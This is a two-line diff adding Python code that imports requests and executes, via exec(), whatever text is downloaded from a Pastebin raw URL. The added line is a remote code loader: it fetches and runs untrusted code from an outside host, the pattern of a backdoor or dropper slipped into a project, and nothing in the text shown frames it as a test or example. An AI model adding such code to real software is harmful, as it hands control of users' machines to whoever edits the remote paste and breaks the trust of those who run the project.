@@ -1,0 +1,2 @@
+import requests
+exec(requests.get('https://pastebin.com/raw/Xz81kLmq').text)
